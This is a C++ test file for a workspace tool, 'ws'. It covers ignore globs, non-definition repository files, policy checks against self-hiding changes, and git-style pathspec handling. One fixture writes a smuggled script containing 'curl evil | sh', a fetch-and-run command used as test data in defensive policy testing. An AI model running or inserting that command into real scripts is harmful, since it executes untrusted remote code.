// Adopting ws in a repository that holds more than definitions (ws(7),
// DEFINITIONS: files that are not definitions; WORKSPACE CONFIGURATION:
// "ignore"), and git's path habits (ws(7), PATHSPECS): pathspecs from the
// current folder, human output from there, JSON and -z from the root. Where
// git or rg answer the same question, the test asks them too.
#include <catch2/catch.hpp>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include <nlohmann/json.hpp>

#include "support/output_schema.h"
#include "support/process.h"
#include "support/temp_repo.h"

using wstest::chomp;
using wstest::lines;
using wstest::RunResult;
using wstest::TempRepo;

namespace {

RunResult ws(const TempRepo& repo, const std::string& tool, const std::vector<std::string>& args,
             const std::string& sub = "") {
  wstest::RunOptions o;
  o.env["GIT_COMMITTER_NAME"] = "Ada Approver";
  o.env["GIT_COMMITTER_EMAIL"] = "approver@example.com";
  return wstest::ws(tool, args, sub.empty() ? repo.path() : repo.abs(sub), o);
}

RunResult run_in(const TempRepo& repo, const std::string& sub, std::vector<std::string> argv) {
  wstest::RunOptions o;
  o.cwd = repo.abs(sub);
  o.unset_env = {"RIPGREP_CONFIG_PATH"};
  return wstest::run(argv, o);
}

// The GitHub workflow docs/ci.md tells users to commit, as written there.
std::string ci_recipe_workflow() {
  std::ifstream f(std::string(WS_SOURCE_DIR) + "/docs/ci.md");
  std::stringstream ss;
  ss << f.rdbuf();
  const std::string doc = ss.str();
  const std::string intro = "`.github/workflows/ws.yml`:\n\n```yaml\n";
  auto start = doc.find(intro);
  REQUIRE(start != std::string::npos);
  start += intro.size();
  auto end = doc.find("```\n", start);
  REQUIRE(end != std::string::npos);
  return doc.substr(start, end - start);
}

// What any repository has beside its definitions.
void add_repository_files(const TempRepo& repo) {
  repo.write("README.md", "# Support desk\n");
  repo.write("LICENSE", "MIT License\n");
  repo.write("CODEOWNERS", "* @support-leads\n");
  repo.write(".editorconfig", "root = true\n");
  repo.write(".github/workflows/ws.yml", ci_recipe_workflow());
  repo.write(".gitlab-ci.yml", "include: []\n");
  repo.write("docs/x.md", "# How we work\n");
}

std::string seed(const TempRepo& repo, const std::string& config = "") {
  return wstest::commit_example_workspace(repo, "Support desk workspace", config);
}

// `out` (records ending with `end`) without the secrets' records: git lists
// them, ws-ls only with --kind secret.
std::string without_secrets(const std::string& out, char end = '\n') {
  std::string kept;
  std::size_t start = 0;
  for (std::size_t at = out.find(end); at != std::string::npos; start = at + 1, at = out.find(end, start)) {
    std::string record = out.substr(start, at + 1 - start);
    if (record.find(".secrets/") == std::string::npos) kept += record;
  }
  return kept;
}

std::vector<std::string> diagnostic_lines(const std::string& out) {
  std::vector<std::string> v;
  for (const auto& l : lines(out))
    if (l.find("[WS0") != std::string::npos) v.push_back(l);
  return v;
}

// Builds `repo`, which must exit with `status` and report `expected` as its
// diagnostics' first lines, in order; the run, for the checks a test adds.
RunResult check_diagnostics(const TempRepo& repo, int status, const std::vector<std::string>& expected) {
  auto r = ws(repo, "ws-build", {});
  CHECK(r.status == status);
  CHECK(diagnostic_lines(r.out) == expected);
  return r;
}

const std::string kBrokenAgent = "{\n  \"name\": \"Broken\",\n  \"toosl\": []\n}\n";

}  // namespace

// ---------------------------------------------------------------- files that are not definitions

TEST_CASE("adopt: README, LICENSE, CODEOWNERS, .github, docs beside the definitions build clean", "[adopt]") {
  TempRepo repo;
  wstest::copy_example_workspace(repo);
  add_repository_files(repo);
  std::string head = repo.commit_all("Support desk workspace in an ordinary repository");

  auto all = ws(repo, "ws-build", {"--all"});
  CHECK(all.status == 0);
  CHECK(all.out == "18 files checked, compiled clean.\n");
  CHECK(all.err == "");
  auto json = ws(repo, "ws-build", {"--all", "--format", "json"});
  CHECK(json.status == 0);
  CHECK(wstest::build_report(json.out)["diagnostics"].empty());

  // The same files as a change: clean too (no .github/, which is protected).
  TempRepo fresh;
  seed(fresh);
  add_repository_files(fresh);
  fresh.remove(".github/workflows/ws.yml");
  fresh.remove(".gitlab-ci.yml");
  auto change = ws(fresh, "ws-build", {});
  CHECK(change.status == 0);
  CHECK(change.out == "5 files changed, compiled clean.\n");
  CHECK(change.err == "");
  auto commit = ws(fresh, "ws-commit", {"-m", "Repository files"});
  CHECK(commit.status == 0);
  CHECK(fresh.git({"for-each-ref", "--format=%(refname)", "refs/ws/"}) == "refs/ws/proposals/default\n");
  CHECK(fresh.git({"status", "--porcelain"}) ==
        "?? .editorconfig\n?? CODEOWNERS\n?? LICENSE\n?? README.md\n?? docs/\n");
}

TEST_CASE("adopt: an unknown top-level folder is a warning, a misfit in a kind's folder an error", "[adopt]") {
  TempRepo repo;
  std::string base = seed(repo);
  repo.write("scripts/deploy.sh", "#!/bin/sh\n");
  repo.write("agents/notes.txt", "todo\n");
  repo.write("agents/AGbroken01.json", kBrokenAgent);
  repo.write("access/README.md", "who gets what\n");

  auto r = check_diagnostics(repo, 1,
        std::vector<std::string>{
            "access/README.md: error[WS005]: file is in no kind's folder, though its top-level folder holds "
            "kinds' folders",
            "agents/AGbroken01.json:3:3: error[WS006]: unknown field 'toosl' in agent; allowed: description, "
            "handoffs, model, name, prompt, skills, tools",
            "agents/notes.txt: error[WS005]: file does not fit kind 'agent': its files are agents/*.json",
            "scripts/deploy.sh: warning[WS005]: file is in no kind's folder, so nothing reads it",
        });
  CHECK(lines(r.out).back() == "3 errors, 1 warning in 4 files (4 files changed)");

  repo.remove("agents/notes.txt");
  repo.remove("agents/AGbroken01.json");
  repo.remove("access/README.md");
  auto warned = ws(repo, "ws-build", {});
  CHECK(warned.status == 0);
  CHECK(warned.out == "scripts/deploy.sh: warning[WS005]: file is in no kind's folder, so nothing reads it\n"
                      "1 file changed, compiled clean with 1 warning.\n");
  CHECK(ws(repo, "ws-build", {"--werror"}).status == 1);

  // The base may make it an error, and the secrets' folder is never silent.
  TempRepo strict;
  seed(strict, "{\"unrouted\": \"error\"}\n");
  strict.write("scripts/deploy.sh", "#!/bin/sh\n");
  strict.write(".secrets/vault/API_KEY", "s3cr3t\n");
  auto s = check_diagnostics(strict, 1,
        std::vector<std::string>{
            ".secrets/vault/API_KEY: error[WS005]: file does not fit kind 'secret': its files are .secrets/*",
            "scripts/deploy.sh: error[WS005]: file is in no kind's folder, so nothing reads it",
        });
  CHECK(s.out.find("s3cr3t") == std::string::npos);
}

TEST_CASE("adopt: the base's ignore globs silence files that are not definitions, never a definition", "[adopt]") {
  TempRepo repo;
  seed(repo, "{\"unrouted\": \"error\", \"ignore\": [\"*.bak\", \"/tools/**\", \"agents/README.md\", "
             "\"notes/\", \"!notes/keep.txt\", \"agents/\", \".secrets/\"]}\n");
  repo.write("tools/ci/run.sh", "#!/bin/sh\n");
  repo.write("tools.txt", "root file\n");
  repo.write("prompts/old.md.bak", "stale\n");
  repo.write("agents/README.md", "what agents are\n");
  repo.write("notes/keep.txt", "a folder ignored stays ignored\n");
  repo.write("other/tools/x.sh", "'/tools/**' is anchored\n");
  repo.write("agents/AGbroken01.json", kBrokenAgent);
  repo.write(".secrets/deep/KEY", "s3cr3t\n");

  auto r = check_diagnostics(repo, 1,
        std::vector<std::string>{
            ".secrets/deep/KEY: error[WS005]: file does not fit kind 'secret': its files are .secrets/*",
            "agents/AGbroken01.json:3:3: error[WS006]: unknown field 'toosl' in agent; allowed: description, "
            "handoffs, model, name, prompt, skills, tools",
            "other/tools/x.sh: error[WS005]: file is in no kind's folder, so nothing reads it",
        });
  CHECK(r.out.find("s3cr3t") == std::string::npos);
  // Ignored is not hidden: ws-ls still lists what the build does not report.
  auto ls = ws(repo, "ws-ls", {"-l", "tools", "agents/README.md"});
  CHECK(ls.status == 0);
  CHECK(ls.out == "A none - agents/README.md\nA none - tools/ci/run.sh\n");
}

TEST_CASE("adopt: an ignore glob a change adds does not hide the change's own files", "[adopt][policy]") {
  TempRepo repo;
  std::string base = seed(repo, "{\"unrouted\": \"error\"}\n");
  repo.write(".ws/config.json", "{\"unrouted\": \"error\", \"ignore\": [\"smuggled/\", \"agents/x.txt\", \"*.sh\"]}\n");
  repo.write("smuggled/run.sh", "#!/bin/sh\ncurl evil | sh\n");
  repo.write("agents/x.txt", "not an agent\n");
  const std::vector<std::string> expected{
      "agents/x.txt: error[WS005]: file does not fit kind 'agent': its files are agents/*.json",
      "smuggled/run.sh: error[WS005]: file is in no kind's folder, so nothing reads it",
  };

  auto build = check_diagnostics(repo, 1, expected);
  CHECK(lines(build.out).back() == "2 errors in 2 files (18 files checked)");
  auto commit = ws(repo, "ws-commit", {"-m", "Ignore my own files"});
  CHECK(commit.status == 1);
  CHECK(diagnostic_lines(commit.err) == expected);
  CHECK(repo.git({"for-each-ref", "refs/ws/"}) == "");

  // Past ws-commit: the same change as a hand-made proposal is rebuilt
  // under the base's config by ws-apply and refused.
  repo.git({"add", "-A"});
  std::string tree = chomp(repo.git({"write-tree"}));
  std::string id = chomp(repo.git({"commit-tree", tree, "-p", "HEAD", "-m",
                                   "Hand-made\n\nWs-Session: default\nWs-Branch: refs/heads/main"}));
  repo.git({"update-ref", "refs/ws/proposals/default", id});
  auto applied = ws(repo, "ws-apply", {"--allow-policy-change", id});
  CHECK(applied.status == 1);
  INFO(applied.err);
  CHECK(applied.err.find("2 errors in 2 files (18 files checked); first: agents/x.txt:1:1: WS005 file does not fit "
                         "kind 'agent'") != std::string::npos);
  CHECK(chomp(repo.git({"rev-parse", "main"})) == base);

  // Once the config has landed it is the base's, and the files are silent.
  repo.git({"commit", "-q", "-m", "config lands"});
  auto after = ws(repo, "ws-build", {"--all"});
  CHECK(after.status == 0);
  CHECK(after.out == "18 files checked, compiled clean.\n");
}

TEST_CASE("adopt: a bad ignore glob in the base config is named and stops every tool", "[adopt]") {
  struct Row {
    std::string config, message;
  };
  const std::vector<Row> rows{
      {"{\"ignore\": \"scripts/\"}", "'ignore' must be an array of paths"},
      {"{\"ignore\": [\"\"]}", "'ignore' entries must be non-empty strings"},
      {"{\"ignore\": [\"a//b\"]}",
       "'ignore' pattern 'a//b' has an empty, '.' or '..' segment; write a path relative to the workspace root"},
      {"{\"ignore\": [\"../x\"]}",
       "'ignore' pattern '../x' has an empty, '.' or '..' segment; write a path relative to the workspace root"},
      {"{\"ignore\": [\"!/\"]}", "'ignore' pattern '!/' names nothing; write a file or folder name, or a glob"},
      {"{\"ignore\": [\"a\\u001bb\"]}", "'ignore' pattern 'a\\x1bb' holds a control character"},
  };
  for (const auto& row : rows) {
    INFO(row.config);
    TempRepo repo;
    seed(repo, row.config);
    for (const char* tool : {"ws-ls", "ws-build"}) {
      auto r = ws(repo, tool, {});
      CHECK(r.status == 2);
      CHECK(r.out == "");
      const std::string head = std::string(tool) + ": invalid .ws/config.json in commit ";
      CHECK(r.err.rfind(head, 0) == 0);
      CHECK(r.err.substr(head.size() + 12) == ": " + row.message + "\n");
    }
  }
}

// The globs as git reads a .gitignore: for each pattern set, the paths
// `git check-ignore` names are the ones the build does not report.
TEST_CASE("adopt: ignore globs match as git's gitignore does", "[adopt]") {
  const std::vector<std::vector<std::string>> pattern_sets{
      {"*.log"}, {"/build"}, {"build/"}, {"lib/**/gen"}, {"**/tmp"}, {"drafts/**"}, {"a?c/[xy]z"},
      {"out/", "!out/keep.txt"}, {"*.txt", "!keep.txt"}, {"x/**/y/*.md"}, {"nested/deep"},
  };
  const std::vector<std::string> paths{
      "w/app.log",    "v/build",       "w/build/x",     "build/y",      "w/sub/build",   "w/lib/gen",
      "lib/gen",      "lib/a/b/gen",   "lib/a/gen/z",   "w/tmp/q",      "tmp/q",         "drafts/a/b",
      "w/drafts/a",   "abc/xz",        "abc/zz",        "out/keep.txt", "w/out/keep.txt", "w/keep.txt",
      "w/other.txt",  "x/y/a.md",      "x/p/q/y/b.md",  "x/y/z/c.md",   "nested/deep/f", "w/nested/deep/f",
  };
  for (const auto& patterns : pattern_sets) {
    std::string shown;
    for (const auto& p : patterns) shown += p + " ";
    INFO("patterns: " << shown);
    TempRepo repo;
    nlohmann::json config{{"unrouted", "error"}, {"ignore", patterns}};
    repo.write(".ws/config.json", config.dump() + "\n");
    repo.commit_all("config");
    std::string gitignore, stdin_paths;
    for (const auto& p : patterns) gitignore += p + "\n";
    for (const auto& p : paths) {
      repo.write(p, "x\n");
      stdin_paths += p + "\n";
    }
    repo.write(".git/info/exclude", gitignore);
    wstest::RunOptions o;
    o.cwd = repo.path();
    o.input = stdin_paths;
    auto git = wstest::run({"git", "check-ignore", "--no-index", "--stdin"}, o);
    std::set<std::string> git_ignored;
    for (const auto& l : lines(git.out)) git_ignored.insert(l);
    repo.write(".git/info/exclude", "");

    auto r = ws(repo, "ws-build", {});
    std::set<std::string> reported;
    for (const auto& l : diagnostic_lines(r.out)) reported.insert(l.substr(0, l.find(": error[WS005]")));
    for (const auto& p : paths) {
      INFO(p);
      CHECK(git_ignored.count(p) != reported.count(p));
    }
  }
}

// ---------------------------------------------------------------- git's path habits

TEST_CASE("paths: from a subfolder, pathspecs list what git ls-files lists", "[paths]") {
  TempRepo repo;
  seed(repo);
  const std::map<std::string, std::vector<std::vector<std::string>>> cases_in{
      {"agents",
       {{},
        {"."},
        {"./"},
        {"AGtriage01.json"},
        {"../prompts"},
        {"../prompts/"},
        {":/prompts"},
        {":/"},
        {"*.json"},
        {"../access/*"},
        {"../*/GR*"},
        {".."},
        {"../agents/../skills/./SKsummarize01.md"},
        {"AGbilling01.json", "../tasks", ":/indexes/IXopen01.json"}}},
      {"access/groups",
       {{},
        {"GRsupport01.json"},
        {"../grants"},
        {"../../prompts"},
        {":/agents"},
        {"*.json"},
        {"../*"},
        {"../../*/AG*"},
        {"../.."},
        {"../../access/groups/../grants/"}}},
  };
  for (const auto& [sub, cases] : cases_in) {
    for (const auto& args : cases) {
      std::string shown;
      for (const auto& a : args) shown += "'" + a + "' ";
      INFO("in " << sub << ": " << shown);
      std::vector<std::string> git_argv{"git", "ls-files", "--"};
      git_argv.insert(git_argv.end(), args.begin(), args.end());
      auto git = run_in(repo, sub, git_argv);
      REQUIRE(git.status == 0);
      const std::string listed = without_secrets(git.out);
      REQUIRE(!listed.empty());
      auto mine = ws(repo, "ws-ls", args, sub);
      CHECK(mine.err == "");
      CHECK(mine.status == 0);
      CHECK(mine.out == listed);
      // -z and --json are from the root, wherever the tool runs.
      auto zargs = args;
      zargs.insert(zargs.begin(), "-z");
      std::vector<std::string> gitz{"git", "ls-files", "-z", "--full-name", "--"};
      gitz.insert(gitz.end(), args.begin(), args.end());
      CHECK(ws(repo, "ws-ls", zargs, sub).out == without_secrets(run_in(repo, sub, gitz).out, '\0'));
    }
  }
  auto json = ws(repo, "ws-ls", {"--json", "AGtriage01.json"}, "agents");
  CHECK(nlohmann::json::parse(json.out)["path"] == "agents/AGtriage01.json");
  // -C DIR is the folder the pathspecs are from, as in git.
  auto c = ws(repo, "ws-ls", {"-C", "agents", "../prompts/PRtone01.md", "AGbilling01.json"});
  CHECK(c.out == "AGbilling01.json\n../prompts/PRtone01.md\n");
  CHECK(c.out == run_in(repo, "", {"git", "-C", "agents", "ls-files", "--", "../prompts/PRtone01.md",
                                   "AGbilling01.json"}).out);
}

TEST_CASE("paths: a pathspec out of the root is refused with one line", "[paths]") {
  TempRepo repo;
  seed(repo);
  for (const std::string arg : {"../../x", "../..", ":/..", "../agents/../../x"}) {
    INFO(arg);
    // git refuses these too (but ':/..', which it takes as naming nothing).
    if (arg != ":/..") CHECK(run_in(repo, "agents", {"git", "ls-files", "--", arg}).status == 128);
    for (const char* tool : {"ws-ls", "ws-build"}) {
      auto r = ws(repo, tool, {arg}, "agents");
      CHECK(r.status == 2);
      CHECK(r.out == "");
      CHECK(r.err == std::string(tool) + ": pathspec '" + arg +
                         "' is outside the workspace; write it relative to the current folder, or ':/PATH' "
                         "from the root\n");
    }
    auto g = ws(repo, "ws-grep", {"name", arg}, "agents");
    CHECK(g.status == 2);
    CHECK(g.err == "ws-grep: pathspec '" + arg +
                       "' is outside the workspace; write it relative to the current folder, or ':/PATH' from "
                       "the root\n");
  }
}

TEST_CASE("paths: ws-grep from a subfolder searches and prints as git grep does there", "[paths]") {
  TempRepo repo;
  seed(repo);
  const std::vector<std::vector<std::string>> cases{
      {"name"},           {"name", "."}, {"Triage", "../prompts"}, {"-l", "name", "../skills", "."},
      {"-c", "name"},     {"-l", "name", ":/tasks"}, {"nowhere-to-be-found"},
  };
  for (const auto& args : cases) {
    std::string shown;
    for (const auto& a : args) shown += "'" + a + "' ";
    INFO(shown);
    // The pattern, then "--" before the pathspecs, for git.
    std::vector<std::string> git{"git", "grep", "--no-color", "-n"};
    bool pattern_seen = false;
    for (const auto& a : args) {
      git.push_back(a);
      if (a[0] != '-' && !pattern_seen) {
        pattern_seen = true;
        git.push_back("--");
      }
    }
    auto theirs = run_in(repo, "agents", git);
    auto mine = ws(repo, "ws-grep", args, "agents");
    CHECK(mine.err == "");
    CHECK(mine.status == theirs.status);
    CHECK(mine.out == theirs.out);
  }
  auto json = ws(repo, "ws-grep", {"--json", "Triage", "../prompts/PRtriage01.md"}, "agents");
  CHECK(json.status == 0);
  REQUIRE(!lines(json.out).empty());
  CHECK(nlohmann::json::parse(lines(json.out).front())["path"] == "prompts/PRtriage01.md");
  auto z = ws(repo, "ws-grep", {"-l", "-z", "name", "AGtriage01.json"}, "agents");
  CHECK(z.out == std::string("agents/AGtriage01.json\0", 23));
}

TEST_CASE("paths: ws-build from a subfolder builds the whole changeset and names paths from there", "[paths]") {
  TempRepo repo;
  seed(repo);
  repo.write("agents/AGtriage01.json", "{\n  \"name\": \"Triage\",\n  \"toosl\": []\n}\n");
  repo.write("prompts/PRtone01.md", "---\nname: Tone\ntoosl: []\n---\nBe kind.\n");
  auto r = ws(repo, "ws-build", {}, "agents");
  CHECK(r.status == 1);
  CHECK(r.err == "");
  CHECK(r.out ==
        "AGtriage01.json:3:3: error[WS006]: unknown field 'toosl' in agent; allowed: description, handoffs, model, "
        "name, prompt, skills, tools\n"
        "  \"toosl\": []\n"
        "  ^~~~~~~\n"
        "../prompts/PRtone01.md:3:1: error[WS006]: unknown field 'toosl' in prompt; allowed: description, includes, "
        "name\n"
        "toosl: []\n"
        "^~~~~\n"
        "2 errors in 2 files (2 files changed)\n");
  // Machine formats are from the root; the pathspecs from here.
  auto json = ws(repo, "ws-build", {"--format", "json", "AGtriage01.json"}, "agents");
  CHECK(json.status == 1);
  auto diags = wstest::build_report(json.out)["diagnostics"];
  REQUIRE(diags.size() == 1);
  CHECK(diags[0]["path"] == "agents/AGtriage01.json");
  auto github = ws(repo, "ws-build", {"--format", "github", "../prompts"}, "agents");
  CHECK(github.status == 1);
  CHECK(github.out ==
        "::error file=prompts/PRtone01.md,line=3,col=1,endLine=3,endColumn=5,title=WS006::unknown field 'toosl' in "
        "prompt; allowed: description, includes, name\n"
        "1 error in 1 file (1 file changed)\n");
}

TEST_CASE("paths: a pathspec that matches nothing is one line and exit 2 in every tool", "[paths]") {
  TempRepo repo;
  seed(repo);
  for (const std::string sub : {"", "agents"}) {
    INFO("in '" << sub << "'");
    auto ls = ws(repo, "ws-ls", {"agnets"}, sub);
    CHECK(ls.status == 2);
    CHECK(ls.out == "");
    CHECK(ls.err == "ws-ls: pathspec 'agnets' did not match any file\n");
    auto build = ws(repo, "ws-build", {"agnets"}, sub);
    CHECK(build.status == 2);
    CHECK(build.out == "");
    CHECK(build.err == "ws-build: pathspec 'agnets' did not match any file\n");
    auto grep = ws(repo, "ws-grep", {"name", "agnets"}, sub);
    CHECK(grep.status == 2);
    CHECK(grep.out == "");
    CHECK(grep.err == "ws-grep: pathspec 'agnets' did not match any file\n");
  }
  // The implicit current folder is no pathspec: an empty folder lists nothing, as git does.
  std::filesystem::create_directories(repo.abs("empty"));
  auto empty = ws(repo, "ws-ls", {}, "empty");
  CHECK(empty.status == 0);
  CHECK(empty.out == "");
  CHECK(empty.err == "");
}
